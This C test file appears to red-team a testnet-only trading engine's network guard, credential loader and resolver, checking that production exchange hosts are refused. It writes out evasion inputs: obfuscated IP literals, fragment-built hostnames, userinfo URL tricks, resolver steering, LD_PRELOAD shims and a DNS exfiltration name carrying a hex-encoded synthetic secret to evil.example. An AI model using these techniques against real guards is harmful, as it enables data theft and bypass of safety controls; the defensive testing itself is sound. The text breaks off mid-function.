/*
 * rt_net.c — red-team cases against the run-time layers (DESIGN §6): the endpoint guard
 * reached through the real connection code (tt_wsconn, tt_https, tt_net_resolve), the
 * tagged credential loader (tt_cred) and LD_PRELOAD shims. One case per run:
 * `rt_net CASE` (ctest runs every case as its own test), `rt_net --list` prints them.
 *
 * Network cases run in a forked child inside a private network namespace (only lo, no
 * route anywhere) with its own /etc/resolv.conf pointing at a recording DNS stub on
 * 127.0.0.1:53. A case is "refused" only when the attempt returned the refusal, exactly
 * one `denied` event names what/target/rule, the stub saw zero queries and the
 * namespace's IP/UDP/TCP/IPv6 output counters (/proc/net/snmp{,6}) did not move: nothing
 * was sent, not even to a route that does not exist. A control case shows that the stub
 * and the counters do see an attempt that is not stopped by the guard.
 *
 * Cases that cannot run here (unshare not permitted) exit 77: ctest reports SKIP.
 */
/* Messages here are diagnostics: truncating one is harmless. */
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic ignored "-Wformat-truncation"
#endif

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "rt_common.h"
#include "tt_config.h"
#include "tt_cred.h"
#include "tt_denied.h"
#include "tt_err.h"
#include "tt_guard.h"
#include "tt_https.h"
#include "tt_loop.h"
#include "tt_resolve.h"
#include "tt_tls.h"
#include "tt_wsconn.h"

/* ---- outcome of the one case this run executes ------------------------------------- */

static const char *rt_outcome = "error";
static char rt_detail[512];

#define RT_ESCAPE(...)                                                                             \
	do {                                                                                       \
		rt_outcome = "escaped";                                                            \
		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                               \
		fail_msg("ESCAPE: %s", rt_detail);                                                 \
	} while (0)

#define RT_SKIP(...)                                                                               \
	do {                                                                                       \
		rt_outcome = "skipped";                                                            \
		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                               \
		print_message("SKIP: %s\n", rt_detail);                                            \
		skip();                                                                            \
	} while (0)

#define RT_REFUSED(...)                                                                            \
	do {                                                                                       \
		rt_outcome = "refused";                                                            \
		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                               \
	} while (0)

/* ---- the recording DNS stub and the namespace ----------------------------------------- */

#include "../common/tt_dns_stub.h"

/* Output counters of this network namespace. */
struct nsctr {
	long ip_out;	  /* Ip: OutRequests */
	long ip_noroute;  /* Ip: OutNoRoutes */
	long udp_out;	  /* Udp: OutDatagrams */
	long tcp_open;	  /* Tcp: ActiveOpens */
	long ip6_out;	  /* Ip6OutRequests */
	long ip6_noroute; /* Ip6OutNoRoutes */
};

/* The value of field `key` in the "<proto>:" table pair of /proc/self/net/snmp. */
static long snmp_field(const char *text, const char *proto, const char *key)
{
	char hdr[32];
	const char *h;

	snprintf(hdr, sizeof(hdr), "\n%s: ", proto);
	h = strstr(text, hdr);
	if (!h)
		return -1;
	h += strlen(hdr);
	{
		const char *eol = strchr(h, '\n');
		const char *vals;
		int idx = 0;
		char tok[64];
		const char *p = h;

		if (!eol)
			return -1;
		vals = strstr(eol, hdr);
		if (!vals)
			return -1;
		vals += strlen(hdr);
		while (p < eol) {
			size_t l = strcspn(p, " \n");

			snprintf(tok, sizeof(tok), "%.*s", (int)l, p);
			if (strcmp(tok, key) == 0) {
				for (int i = 0; i < idx; i++)
					vals += strcspn(vals, " \n") + 1;
				return strtol(vals, NULL, 10);
			}
			idx++;
			p += l + 1;
		}
	}
	return -1;
}

static long snmp6_field(const char *text, const char *key)
{
	const char *p = strstr(text, key);

	return p ? strtol(p + strlen(key), NULL, 10) : -1;
}

static void read_file(const char *path, char *buf, size_t cap)
{
	int fd = open(path, O_RDONLY);
	ssize_t n;
	size_t off = 0;

	buf[0] = '\n';
	off = 1;
	if (fd >= 0) {
		while (off + 1 < cap && (n = read(fd, buf + off, cap - 1 - off)) > 0)
			off += (size_t)n;
		close(fd);
	}
	buf[off] = '\0';
}

static void nsctr_read(struct nsctr *c)
{
	static char t[16384];

	read_file("/proc/self/net/snmp", t, sizeof(t));
	c->ip_out = snmp_field(t, "Ip", "OutRequests");
	c->ip_noroute = snmp_field(t, "Ip", "OutNoRoutes");
	c->udp_out = snmp_field(t, "Udp", "OutDatagrams");
	c->tcp_open = snmp_field(t, "Tcp", "ActiveOpens");
	read_file("/proc/self/net/snmp6", t, sizeof(t));
	c->ip6_out = snmp6_field(t, "Ip6OutRequests");
	c->ip6_noroute = snmp6_field(t, "Ip6OutNoRoutes");
}

/* What the child saw, in shared memory. */
struct ns_out {
	int setup;		    /* 0 ok, 77 not permitted (skip), else the failed step */
	int rc;			    /* the attempt's return */
	int queries;		    /* DNS queries the stub saw during the attempt */
	char qnames[STUB_MAX][256]; /* their names */
	struct nsctr before;	    /* counters around the attempt */
	struct nsctr after;
	char ev[8192];	  /* denied events written during the attempt */
	char trail[1024]; /* tt_err trail after the attempt */
	char extra[256];  /* attempt-specific note */
};

typedef int (*attempt_fn)(const char *host, uint16_t port, struct ns_out *o);

static void ns_child(attempt_fn fn, const char *host, uint16_t port, struct ns_out *o)
{
	pthread_t th;
	int p[2];
	ssize_t n;

	o->setup = stub_enter(&th);
	if (o->setup)
		return;
	if (pipe2(p, O_NONBLOCK) < 0) {
		o->setup = 7;
		return;
	}
	tt_denied_set_fd(p[1]);
	tt_err_clear();
	nsctr_read(&o->before);
	o->rc = fn(host, port, o);
	nsctr_read(&o->after);
	snprintf(o->trail, sizeof(o->trail), "%s", tt_err_msg());
	tt_denied_set_fd(-1);
	close(p[1]);
	n = read(p[0], o->ev, sizeof(o->ev) - 1);
	o->ev[n > 0 ? n : 0] = '\0';
	close(p[0]);
	__atomic_store_n(&stub.stop, 1, __ATOMIC_RELEASE);
	pthread_join(th, NULL);
	o->queries = stub_count();
	for (int i = 0; i < o->queries && i < STUB_MAX; i++)
		memcpy(o->qnames[i], stub.names[i], sizeof(o->qnames[i]));
	close(stub.fd);
}

/* Runs fn(host, port) in a fresh namespace child; the result in *o (caller unmaps). */
static struct ns_out *in_netns(attempt_fn fn, const char *host, uint16_t port)
{
	struct ns_out *o =
	    mmap(NULL, sizeof(*o), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t pid;
	int st;

	assert_true(o != MAP_FAILED);
	memset(o, 0, sizeof(*o));
	o->setup = -1;
	fflush(NULL);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		o->setup = 0;
		ns_child(fn, host, port, o);
		_exit(0);
	}
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	if (o->setup == 77)
		RT_SKIP("unshare(CLONE_NEWNET) not permitted (not root?)");
	assert_int_equal(o->setup, 0);
	return o;
}

static int nsctr_moved(const struct ns_out *o)
{
	return o->after.ip_out != o->before.ip_out || o->after.ip_noroute != o->before.ip_noroute ||
	       o->after.udp_out != o->before.udp_out || o->after.tcp_open != o->before.tcp_open ||
	       o->after.ip6_out != o->before.ip6_out ||
	       o->after.ip6_noroute != o->before.ip6_noroute;
}

/* The refusal contract: the attempt failed with want_rc, nothing was sent, exactly one
 * denied event with these what/target/rule (target NULL: not checked). */
static void expect_refused(struct ns_out *o, int want_rc, const char *what, const char *target,
			   const char *rule)
{
	char w[600];

	if (o->rc == 0)
		RT_ESCAPE("attempt succeeded (rc 0)");
	if (o->queries > 0)
		RT_ESCAPE("%d DNS quer%s reached the stub, first '%s'", o->queries,
			  o->queries == 1 ? "y" : "ies", o->qnames[0]);
	if (nsctr_moved(o))
		RT_ESCAPE("packets left the process: ip_out %ld->%ld noroute %ld->%ld udp %ld->%ld "
			  "tcp_open %ld->%ld ip6_out %ld->%ld",
			  o->before.ip_out, o->after.ip_out, o->before.ip_noroute,
			  o->after.ip_noroute, o->before.udp_out, o->after.udp_out,
			  o->before.tcp_open, o->after.tcp_open, o->before.ip6_out,
			  o->after.ip6_out);
	if (o->rc != want_rc)
		print_error("rc %d, want %d; trail: %s\n", o->rc, want_rc, o->trail);
	assert_int_equal(o->rc, want_rc);
	if (rt_count(o->ev, "\"event\":\"denied\"") != 1)
		print_error("events: %s\n", o->ev);
	assert_int_equal(rt_count(o->ev, "\"event\":\"denied\""), 1);
	snprintf(w, sizeof(w), "\"what\":\"%s\"", what);
	assert_non_null(strstr(o->ev, w));
	if (target) {
		snprintf(w, sizeof(w), "\"target\":\"%s\"", target);
		if (!strstr(o->ev, w))
			print_error("want %s in %s\n", w, o->ev);
		assert_non_null(strstr(o->ev, w));
	}
	snprintf(w, sizeof(w), "\"rule\":\"%s\"", rule);
	if (!strstr(o->ev, w))
		print_error("want %s in %s\n", w, o->ev);
	assert_non_null(strstr(o->ev, w));
	assert_non_null(strstr(o->ev, "\"flavor\":\"testnet\""));
	assert_non_null(strstr(o->ev, "\"process\":\"rt_net\""));
	RT_REFUSED("rc %d, rule %s, 0 queries, 0 packets", o->rc, rule);
}

/* ---- attempts through the real net code ------------------------------------------- */

static struct tt_loop loop;
static struct tt_tls_ctx tls;
static struct tt_wsconn ws;
static struct tt_https https;
static uint8_t ws_rx[4096 + TT_WS_MAX_HEADER];
static uint8_t ws_frag[4096];
static char body[4096];
static int down_reason = 1;

static void ws_on_down(struct tt_wsconn *w, int reason, uint16_t code)
{
	down_reason = reason;
}

static const struct tt_wsconn_ops ws_ops = {.on_down = ws_on_down};

static int net_setup(void)
{
	struct tt_tls_cfg tc = {.ca_file = NULL};

	if (tt_loop_init(&loop, NULL) != 0 || tt_tls_ctx_init(&tls, &tc) != 0)
		return -1;
	return 0;
}

/* tt_wsconn_start() to wss://host:port/ws, as tt-md would. */
static int att_ws(const char *host, uint16_t port, struct ns_out *o)
{
	struct tt_wsconn_cfg cfg = {.conn = {.host = host, .port = port}, .path = "/ws"};
	int rc;

	if (net_setup() < 0)
		return 1000;
	rc = tt_wsconn_init(&ws, &loop, &tls, &cfg, &ws_ops, NULL, ws_rx, sizeof(ws_rx), ws_frag,
			    sizeof(ws_frag));
	if (rc != 0)
		return 1001;
	rc = tt_wsconn_start(&ws);
	if (!o->extra[0])
		snprintf(o->extra, sizeof(o->extra), "state %s down %d",
			 tt_conn_state_name(tt_conn_state(&ws.conn)), down_reason);
	if (rc == 0) {
		/* not refused: let it run (the namespace has no route) */
		for (int i = 0; i < 20 && tt_conn_state(&ws.conn) != TT_CONN_CLOSED; i++)
			if (tt_loop_run_once(&loop, 50 * 1000000LL) < 0)
				break;
	}
	return rc;
}

static void https_done(struct tt_https *h, int rc, const struct tt_http_resp *r, uint64_t t)
{
	down_reason = rc;
}

/* tt_https_request(GET /api/v3/ping) to https://host:port, as a REST snapshot would. */
static int att_https(const char *host, uint16_t port, struct ns_out *o)
{
	struct tt_conn_cfg cfg = {.host = host, .port = port};
	int rc;

	if (net_setup() < 0)
		return 1000;
	if (tt_https_init(&https, &loop, &tls, &cfg, body, sizeof(body), https_done, NULL) != 0)
		return 1001;
	rc = tt_https_request(&https, "GET", "/api/v3/ping", NULL, 0, NULL, 0);
	if (rc == 0) {
		for (int i = 0; i < 20 && tt_conn_state(&https.conn) != TT_CONN_CLOSED; i++)
			if (tt_loop_run_once(&loop, 50 * 1000000LL) < 0)
				break;
	}
	return rc;
}

static int att_resolve(const char *host, uint16_t port, struct ns_out *o)
{
	struct sockaddr_storage ss;
	socklen_t len;

	return tt_net_resolve(host, port, &ss, &len);
}

/* One prod endpoint through one client: refused by rule, target "host:port". */
static void refuse_case(attempt_fn fn, const char *host, uint16_t port, int want_rc,
			const char *rule)
{
	char target[512];
	struct ns_out *o = in_netns(fn, host, port);

	snprintf(target, sizeof(target), "%s:%u", host, port);
	expect_refused(o, want_rc, "connect", target, rule);
	munmap(o, sizeof(*o));
}

#define DENY (-TT_EDENIED)

/* ---- production host names through the real clients --------------------------------- */

static void test_ws_to_stream_binance_com_is_refused(void **s)
{
	refuse_case(att_ws, "stream.binance.com", 9443, DENY, "deny_binance_com");
}

static void test_ws_to_ws_api_binance_com_is_refused(void **s)
{
	refuse_case(att_ws, "ws-api.binance.com", 443, DENY, "deny_binance_com");
}

static void test_https_to_api_binance_com_is_refused(void **s)
{
	refuse_case(att_https, "api.binance.com", 443, DENY, "deny_binance_com");
}

static void test_https_to_demo_api_binance_com_is_refused(void **s)
{
	refuse_case(att_https, "demo-api.binance.com", 443, DENY, "deny_binance_demo");
}

static void test_https_to_api_binance_us_is_refused(void **s)
{
	refuse_case(att_https, "api.binance.us", 443, DENY, "deny_binance_us");
}

static void test_https_to_data_api_binance_vision_is_refused(void **s)
{
	refuse_case(att_https, "data-api.binance.vision", 443, DENY, "deny_binance_vision");
}

static void test_ws_to_kalshi_com_is_refused(void **s)
{
	refuse_case(att_ws, "api.elections.kalshi.com", 443, DENY, "deny_kalshi_com");
}

static void test_https_to_kalshi_com_mixed_case_trailing_dot_is_refused(void **s)
{
	refuse_case(att_https, "Trading-API.KALSHI.com.", 443, DENY, "deny_kalshi_com");
}

/* ---- IP literals, every form (documentation ranges only) ----------------------------- */

#define IPDENY "ip_literal_not_allowlisted"

static void test_ip_dotted_quad_is_refused(void **s)
{
	refuse_case(att_ws, "192.0.2.1", 443, DENY, IPDENY);
}

static void test_ip_decimal_integer_is_refused(void **s)
{
	refuse_case(att_https, "3221225985", 443, DENY, IPDENY); /* 192.0.2.1 */
}

static void test_ip_octal_parts_are_refused(void **s)
{
	refuse_case(att_ws, "0300.0.02.01", 443, DENY, IPDENY);
}

static void test_ip_hex_parts_are_refused(void **s)
{
	refuse_case(att_https, "0xc0.0x0.0x2.0x1", 443, DENY, IPDENY);
}

static void test_ip_hex_integer_is_refused(void **s)
{
	refuse_case(att_ws, "0xC6336407", 443, DENY, IPDENY); /* 198.51.100.7 */
}

static void test_ip_short_two_part_is_refused(void **s)
{
	refuse_case(att_https, "192.513", 443, DENY, IPDENY); /* 192.0.2.1 */
}

static void test_ip_short_three_part_is_refused(void **s)
{
	refuse_case(att_ws, "198.51.25607", 443, DENY, IPDENY); /* 198.51.100.7 */
}

static void test_ip_mixed_radix_is_refused(void **s)
{
	refuse_case(att_https, "0xc6.063.0144.7", 443, DENY, IPDENY); /* 198.51.100.7 */
}

static void test_ipv6_literal_is_refused(void **s)
{
	refuse_case(att_https, "[2001:db8::1]", 443, DENY, IPDENY);
}

static void test_ipv6_v4_mapped_dotted_is_refused(void **s)
{
	refuse_case(att_ws, "::ffff:192.0.2.1", 443, DENY, IPDENY);
}

static void test_ipv6_v4_mapped_hex_is_refused(void **s)
{
	refuse_case(att_https, "[::ffff:c000:201]", 443, DENY, IPDENY);
}

static void test_ipv6_v4_compatible_is_refused(void **s)
{
	refuse_case(att_ws, "::192.0.2.1", 443, DENY, IPDENY);
}

static void test_ipv6_zone_id_is_refused(void **s)
{
	refuse_case(att_https, "fe80::1%lo", 443, -EINVAL, "ipv6_zone_id");
}

/* ---- DNS ------------------------------------------------------------------------------ */

/* Every prod name through tt_net_resolve: zero queries; then the allowed testnet name is
 * queried (the control: the stub would have seen a leak). */
static int att_resolve_all(const char *unused, uint16_t port, struct ns_out *o)
{
	static const char *const prod[] = {"api.binance.com",	       "stream.binance.com",
					   "ws-api.binance.com",       "demo-api.binance.com",
					   "api.binance.us",	       "data-api.binance.vision",
					   "api.elections.kalshi.com", "trading-api.kalshi.com"};
	struct sockaddr_storage ss;
	socklen_t len;
	int refused = 0;

	for (size_t i = 0; i < TT_ARRAY_LEN(prod); i++)
		refused += tt_net_resolve(prod[i], 443, &ss, &len) == -TT_EDENIED;
	o->queries = stub_count(); /* read back by the parent through extra */
	snprintf(o->extra, sizeof(o->extra), "%d/%zu refused, %d queries before control", refused,
		 TT_ARRAY_LEN(prod), o->queries);
	if (tt_net_resolve("testnet.binance.vision", 443, &ss, &len) == 0)
		refused = -1; /* the stub answers NXDOMAIN: success is impossible */
	return refused == (int)TT_ARRAY_LEN(prod) ? -TT_EDENIED : 0;
}

static void test_dns_lookup_of_prod_names_sends_no_query(void **s)
{
	struct ns_out *o = in_netns(att_resolve_all, "", 443);

	print_message("%s; stub saw %d: %s\n", o->extra, o->queries, o->qnames[0]);
	if (!strstr(o->extra, " 0 queries before control"))
		RT_ESCAPE("a prod name reached DNS: %s, first '%s'", o->extra, o->qnames[0]);
	assert_int_equal(o->rc, -TT_EDENIED);
	assert_int_equal(rt_count(o->ev, "\"event\":\"denied\""), 8);
	/* control: the allowed name was queried, so the stub would have caught a leak */
	assert_true(o->queries >= 1);
	assert_string_equal(o->qnames[0], "testnet.binance.vision");
	RT_REFUSED("8/8 prod names refused before DNS; control query seen");
	munmap(o, sizeof(*o));
}

static void test_dns_exfil_under_lookalike_suffix_is_refused(void **s)
{
	/* "data.<hex of a secret>.testnet.binance.vision.evil.example" */
	refuse_case(
	    att_resolve,
	    "data.6170695f6b65793d5345435245545f30313233.testnet.binance.vision.evil.example", 53,
	    DENY, "not_allowlisted");
}

static void test_dns_exfil_overlong_label_is_refused(void **s)
{
	/* a 96-char encoded label under the allowed testnet zone: malformed, never sent */
	refuse_case(att_resolve,
		    "6170695f6b65793d5345435245545f303132336170695f6b65793d5345435245545f30313233"
		    "6170695f6b65793d5345.testnet.binance.vision",
		    443, -EINVAL, "label_too_long");
}

/* ---- names built or read at run time -------------------------------------------------- */

static void test_hostname_built_from_fragments_is_refused(void **s)
{
	/* no contiguous prod name in the binary: the post-link scan cannot see it */
	static const char *const frag[] = {"str", "eam.bi", "nan", "ce.", "c", "om"};
	static char host[64];

	host[0] = '\0';
	for (size_t i = 0; i < TT_ARRAY_LEN(frag); i++)
		strcat(host, frag[i]);
	refuse_case(att_ws, host, 9443, DENY, "deny_binance_com");
}

static void test_hostname_from_environment_is_refused(void **s)
{
	const char *h;

	setenv("TT_VENUE_HOST", "Stream.Binance.COM", 1);
	h = getenv("TT_VENUE_HOST");
	refuse_case(att_ws, h, 9443, DENY, "deny_binance_com");
}

static void test_unicode_fullwidth_dot_is_refused(void **s)
{
	/* "api.binance<U+FF0E>com": IDNA would map it to a dot; the guard refuses the bytes */
	refuse_case(att_https,
		    "api.binance\xef\xbc\x8e"
		    "com",
		    443, -EINVAL, "bad_character");
}

/* Config: the start path loads the file, then connects to the venue's ws_url. */
static struct tt_config cfg_loaded;

static int att_config(const char *path, uint16_t unused, struct ns_out *o)
{
	int rc = tt_config_load(&cfg_loaded, path);

	if (rc != 0) {
		snprintf(o->extra, sizeof(o->extra), "config refused: %s", tt_err_msg());
		return rc;
	}
	snprintf(o->extra, sizeof(o->extra), "config host '%s' port %u",
		 cfg_loaded.binance.ws_url.host, cfg_loaded.binance.ws_url.port);
	return att_ws(cfg_loaded.binance.ws_url.host, cfg_loaded.binance.ws_url.port, o);
}

static char *write_config(const char *ws_url)
{
	static char path[64];
	char src[PATH_MAX];
	const char *dir = getenv("TT_SOURCE_DIR");
	FILE *in;
	FILE *out;
	char line[256];
	int fd;

	snprintf(path, sizeof(path), "/tmp/tt_redteam_cfg.XXXXXX");
	fd = mkstemp(path);
	assert_true(fd >= 0);
	out = fdopen(fd, "w");
	snprintf(src, sizeof(src), "%s/config/testnet.ini", dir ? dir : ".");
	in = fopen(src, "r");
	assert_non_null(in);
	while (fgets(line, sizeof(line), in)) {
		if (strncmp(line, "ws_url", 6) == 0)
			fprintf(out, "ws_url = %s\n", ws_url);
		else
			fputs(line, out);
	}
	fclose(in);
	fclose(out);
	return path;
}

static void test_config_with_prod_venue_url_is_refused_at_start(void **s)
{
	char *path = write_config("wss://stream.binance.com:9443/stream");
	struct ns_out *o = in_netns(att_config, path, 0);

	unlink(path);
	print_message("%s\n", o->extra);
	assert_non_null(strstr(o->extra, "config host 'stream.binance.com' port 9443"));
	expect_refused(o, DENY, "connect", "stream.binance.com:9443", "deny_binance_com");
	munmap(o, sizeof(*o));
}

static void test_config_url_with_userinfo_trick_is_refused(void **s)
{
	/* testnet name as "userinfo", prod host after the @ */
	char *path = write_config("wss://testnet.binance.vision@stream.binance.com:9443/ws");
	struct ns_out *o = in_netns(att_config, path, 0);

	unlink(path);
	print_message("%s\n", o->extra);
	if (o->rc == -TT_ECONFIG) {
		/* the config loader refuses the URL: no host was ever produced */
		assert_int_equal(o->queries, 0);
		assert_false(nsctr_moved(o));
		RT_REFUSED("config loader: %s", o->extra);
	} else {
		expect_refused(o, o->rc == -EINVAL ? -EINVAL : DENY, "connect", NULL,
			       o->rc == -EINVAL ? "bad_character" : "deny_binance_com");
	}
	munmap(o, sizeof(*o));
}

/* ---- resolver steering ---------------------------------------------------------------- */

/* LOCALDOMAIN/RES_OPTIONS would make glibc try "<name>.<search domain>" first; the
 * resolver asks for the absolute name (trailing dot), so no suffix is ever appended. */
static int att_resolve_search_env(const char *host, uint16_t port, struct ns_out *o)
{
	setenv("LOCALDOMAIN", "binance.com evil.example", 1);
	setenv("RES_OPTIONS", "ndots:15", 1);
	return att_resolve(host, port, o);
}

static void test_dns_search_domain_env_cannot_append_a_suffix(void **s)
{
	struct ns_out *o = in_netns(att_resolve_search_env, "testnet.binance.vision", 443);

	for (int i = 0; i < o->queries && i < STUB_MAX; i++)
		if (strcmp(o->qnames[i], "testnet.binance.vision") != 0)
			RT_ESCAPE("DNS query for '%s' (search domain appended)", o->qnames[i]);
	assert_true(o->queries >= 1); /* control: the allowed name itself was looked up */
	RT_REFUSED("only the absolute name was queried (%d queries)", o->queries);
	munmap(o, sizeof(*o));
}

/* /etc/hosts (private mount namespace) maps the allowed testnet name to a documentation
 * address: the resolved-address check must refuse it before connect. */
static int att_hosts_steer(const char *host, uint16_t port, struct ns_out *o)
{
	char path[64];
	FILE *f;
	int rc;

	snprintf(path, sizeof(path), "/tmp/tt_redteam_hosts.%d", (int)getpid());
	f = fopen(path, "w");
	if (!f)
		return 1002;
	fprintf(f, "127.0.0.1 localhost\n192.0.2.99 %s\n", host);
	fclose(f);
	rc = mount(path, "/etc/hosts", NULL, MS_BIND, NULL);
	unlink(path);
	if (rc < 0)
		return 1003;
	return att_https(host, port, o);
}

static void test_hosts_file_steering_to_documentation_ip_is_refused(void **s)
{
	struct ns_out *o = in_netns(att_hosts_steer, "testnet.binance.vision", 443);

	/* Either the hosts entry is used and the post-resolve check refuses 192.0.2.99, or
	 * (glibc: the absolute name "testnet.binance.vision." matches no hosts line) the
	 * allowed name goes to DNS (the stub: NXDOMAIN). Never a connect to 192.0.2.99. */
	if (o->rc == 0 || o->after.ip_noroute != o->before.ip_noroute ||
	    o->after.tcp_open != o->before.tcp_open)
		RT_ESCAPE("connect attempted after hosts steering (rc %d, noroute %ld->%ld)", o->rc,
			  o->before.ip_noroute, o->after.ip_noroute);
	if (o->rc == DENY) {
		assert_non_null(strstr(o->ev, "\"rule\":\"resolved_non_public_addr\""));
		assert_non_null(strstr(o->trail, "192.0.2.99"));
		RT_REFUSED("hosts entry used, resolved_non_public_addr");
	} else {
		assert_int_equal(o->rc, -ENOENT);
		assert_true(o->queries >= 1);
		assert_string_equal(o->qnames[0], "testnet.binance.vision");
		assert_int_equal(rt_count(o->ev, "\"event\":\"denied\""), 0);
		RT_REFUSED("hosts file not consulted for the absolute name; DNS said NXDOMAIN");
	}
	munmap(o, sizeof(*o));
}

/* ---- flavor switches at run time ------------------------------------------------------ */

static void test_flavor_env_switch_has_no_effect(void **s)
{
	/* nothing reads the flavor from the environment: it is compiled in */
	setenv("TT_FLAVOR", "prod", 1);
	setenv("TT_FLAVOR_NAME", "prod", 1);
	refuse_case(att_ws, "stream.binance.com", 9443, DENY, "deny_binance_com");
}

static void test_config_flavor_prod_is_refused(void **s)
{
	static char path[64];
	char src[PATH_MAX];
	const char *dir = getenv("TT_SOURCE_DIR");
	struct tt_config cfg;
	char line[256];
	FILE *in;
	FILE *out;
	int fd;
	int rc;

	snprintf(path, sizeof(path), "/tmp/tt_redteam_cfg.XXXXXX");
	fd = mkstemp(path);
	assert_true(fd >= 0);
	out = fdopen(fd, "w");
	snprintf(src, sizeof(src), "%s/config/testnet.ini", dir ? dir : ".");
	in = fopen(src, "r");
	assert_non_null(in);
	while (fgets(line, sizeof(line), in))
		fputs(strncmp(line, "flavor", 6) == 0 ? "flavor = prod\n" : line, out);
	fclose(in);
	fclose(out);
	rc = tt_config_load(&cfg, path);
	unlink(path);
	if (rc == 0)
		RT_ESCAPE("a testnet build loaded a config with flavor = prod");
	assert_int_equal(rc, -TT_ECONFIG);
	assert_non_null(strstr(tt_err_msg(), "engine.flavor"));
	RT_REFUSED("config loader: %s", tt_err_msg());
}

/* ---- LD_PRELOAD shims (the ctest entry sets LD_PRELOAD; the shim announces itself) ---- */

static void require_shim(const char *name)
{
	const char *v = getenv("RT_SHIM_LOADED");

	if (!v || strcmp(v, name) != 0)
		fail_msg("shim %s not loaded (RT_SHIM_LOADED=%s): the case would prove nothing",
			 name, v ? v : "(unset)");
}

static void test_preload_shim_replacing_the_guard_has_no_effect(void **s)
{
	require_shim("guard");
	refuse_case(att_ws, "stream.binance.com", 9443, DENY, "deny_binance_com");
}

static void test_preload_shim_of_libc_string_calls_cannot_flip_a_rule(void **s)
{
	/* the shim makes memcmp/strlen read the kalshi.co allow rule as binance.us */
	require_shim("libc");
	refuse_case(att_resolve, "api.binance.us", 443, DENY, "deny_binance_us");
}

static void test_preload_shim_of_memcpy_cannot_rewrite_the_lookup(void **s)
{
	/* the guard allows the testnet name; the shim's memcpy would turn the copy handed to
	 * getaddrinfo into a prod name. The stub must only ever see the testnet name. */
	struct ns_out *o;

	require_shim("libc");
	o = in_netns(att_resolve, "testnet.binance.vision", 443);
	for (int i = 0; i < o->queries && i < STUB_MAX; i++)
		if (strcmp(o->qnames[i], "testnet.binance.vision") != 0)
			RT_ESCAPE("DNS query for '%s' after the guard allowed the testnet name",
				  o->qnames[i]);
	assert_true(o->queries >= 1); /* control: the allowed name was looked up */
	RT_REFUSED("lookup stayed on the allowed name (%d queries)", o->queries);
	munmap(o, sizeof(*o));
}

static void test_preload_getaddrinfo_steering_to_documentation_ip_is_refused(void **s)
{
	/* the shim answers every lookup with 192.0.2.1: the allowed name is steered */
	char target[64];
	struct ns_out *o;

	require_shim("gai");
	o = in_netns(att_https, "testnet.binance.vision", 443);
	snprintf(target, sizeof(target), "testnet.binance.vision:443");
	expect_refused(o, DENY, "connect", target, "resolved_non_public_addr");
	munmap(o, sizeof(*o));
}

/* ---- the control: the measurement sees what the guard does not stop ------------------ */

static int att_raw_connect(const char *ip, uint16_t port, struct ns_out *o)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int rc;

	inet_pton(AF_INET, ip, &a.sin_addr);
	rc = connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ? -errno : 0;
	close(fd);
	return rc;
}

static void test_control_counters_see_a_raw_connect(void **s)
{
	struct ns_out *o = in_netns(att_raw_connect, "192.0.2.1", 443);

	/* not a refusal by our layers: proves nsctr_moved() would have caught a leak */
	assert_int_equal(o->rc, -ENETUNREACH);
	assert_true(nsctr_moved(o));
	assert_true(o->after.ip_noroute > o->before.ip_noroute);
	RT_REFUSED("control: raw connect counted (noroute %ld->%ld)", o->before.ip_noroute,
		   o->after.ip_noroute);
	munmap(o, sizeof(*o));
}

/* ---- credentials ------------------------------------------------------------------------ */

static char tmpdir[PATH_MAX];

static void mkpath(const char *rel)
{
	char p[PATH_MAX];

	snprintf(p, sizeof(p), "%s/%s", tmpdir, rel);
	assert_true(mkdir(p, 0700) == 0 || errno == EEXIST);
}

static void put(const char *rel, const char *text)
{
	char p[PATH_MAX];
	FILE *f;

	snprintf(p, sizeof(p), "%s/%s", tmpdir, rel);
	f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void link_to(const char *target_rel, const char *link_rel)
{
	char t[PATH_MAX];
	char l[PATH_MAX];

	snprintf(t, sizeof(t), "%s/%s", tmpdir, target_rel);
	snprintf(l, sizeof(l), "%s/%s", tmpdir, link_rel);
	assert_int_equal(symlink(t, l), 0);
}

#define CRED(env)                                                                                  \
	"[credential]\n" env                                                                       \
	"venue = binance\nkey_type = hmac\nkey_id = k1\nsecret_file = key.pem\n"
#define CRED_TESTNET CRED("env = testnet\n")

static void cred_setup(void)
{
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/tt_redteam_cred.XXXXXX");
	assert_non_null(mkdtemp(tmpdir));
	mkpath("wt");
	mkpath("secrets");
	mkpath("secrets/prod");
	mkpath("production");
	put("wt/key.pem", "synthetic-test-secret\n");
	put("secrets/prod/key.pem", "synthetic-but-in-a-prod-location\n");
	put("production/key.pem", "synthetic-but-in-a-prod-location\n");
}

static void cred_cleanup(void)
{
	char cmd[PATH_MAX + 16];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	if (system(cmd) != 0)
		print_error("cleanup of %s failed\n", tmpdir);
}

/* tt_cred_load(rel) must be refused by rule with one credential event. */
static void cred_refused(const char *rel, const char *rule, const char *target_part)
{
	struct tt_cred c;
	char p[PATH_MAX];
	char ev[4096];
	char w[128];
	int pf[2];
	ssize_t n;
	int rc;

	snprintf(p, sizeof(p), "%s/%s", tmpdir, rel);
	assert_int_equal(pipe2(pf, O_NONBLOCK), 0);
	tt_denied_set_fd(pf[1]);
	rc = tt_cred_load(&c, p);
	tt_denied_set_fd(-1);
	close(pf[1]);
	n = read(pf[0], ev, sizeof(ev) - 1);
